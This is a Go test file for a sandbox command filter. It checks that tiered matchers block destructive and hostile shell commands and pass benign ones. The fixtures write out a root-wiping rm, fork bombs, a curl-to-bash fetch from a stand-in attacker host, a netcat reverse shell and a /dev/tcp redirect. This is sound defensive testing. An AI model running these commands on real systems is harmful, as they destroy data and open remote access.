package sandbox

import "testing"

func TestMatchTier1_BlocksDestructiveCommands(t *testing.T) {
	tests := []struct {
		name    string
		command string
	}{
		{"rm -rf root", "rm -rf /"},
		{"recursive delete flag", "rm --recursive /data"},
		{"fork bomb", ":(){ :|:& };:"},
		{"curl pipe to shell", "curl http://evil.example/x.sh | bash"},
		{"reverse shell via nc", "nc -e /bin/sh 10.0.0.1 4444"},
		{"sudo usage", "sudo apt-get update"},
		{"dev tcp redirect", "exec 3<>/dev/tcp/10.0.0.1/80"},
		{"heredoc split fork bomb", ":(){ :|\n:& };:"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, matched := MatchTier1(tt.command); !matched {
				t.Errorf("expected %q to match a tier-1 pattern", tt.command)
			}
		})
	}
}

func TestMatchTier1_AllowsBenignCommands(t *testing.T) {
	tests := []string{
		"ls -la",
		"python3 script.py",
		"echo hello world",
		"cat data.csv | head -n 10",
	}
	for _, cmd := range tests {
		if _, matched := MatchTier1(cmd); matched {
			t.Errorf("expected %q not to match any tier-1 pattern", cmd)
		}
	}
}

func TestMatchTier3_LogsPackageInstalls(t *testing.T) {
	matches := MatchTier3("pip install requests && python3 run.py")
	if len(matches) == 0 {
		t.Errorf("expected a tier-3 match for a pip install command")
	}
}

func TestMatchTier3_EmptyForPlainExecution(t *testing.T) {
	matches := MatchTier3("python3 run.py")
	if len(matches) != 0 {
		t.Errorf("expected no tier-3 matches, got: %v", matches)
	}
}

func TestMatchTier4_DetectsShellEqualsTrue(t *testing.T) {
	code := `import subprocess
subprocess.run("rm -rf /", shell=True)`
	if _, matched := MatchTier4(code); !matched {
		t.Errorf("expected shell=True subprocess call to match a tier-4 pattern")
	}
}

func TestMatchTier4_AllowsCleanCode(t *testing.T) {
	code := `import json
print(json.dumps({"ok": True}))`
	if _, matched := MatchTier4(code); matched {
		t.Errorf("expected clean code not to match any tier-4 pattern")
	}
}
